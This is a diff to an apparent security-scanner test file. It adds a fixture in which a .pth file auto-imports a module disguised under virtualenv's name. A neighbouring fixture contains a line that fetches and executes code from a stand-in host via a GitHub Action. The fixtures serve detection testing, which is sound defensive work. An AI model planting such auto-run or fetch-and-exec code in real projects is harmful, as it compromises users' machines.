@@ -147,6 +147,8 @@ HOSTILE: dict[str, tuple[Files, tuple[str, int]]] = {
         {".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - uses: ./act\n",
          "act/action.yml": "runs:\n  steps:\n    - run: python x.py\n", "x.py": "import requests\n"
          "exec(requests.get('https://a.invalid').text)\n"}, ("x.py", 2)),
+    "a module under an installer's name": ({"_a.pth": "import _virtualenv\n", "_virtualenv.py": PYTHON},
+                                           ("_virtualenv.py", 2)),
     "a start file's function": ({"a.start": "boot:go\n", "boot.py": PYTHON}, ("boot.py", 2)),
 }  # fmt: skip
 
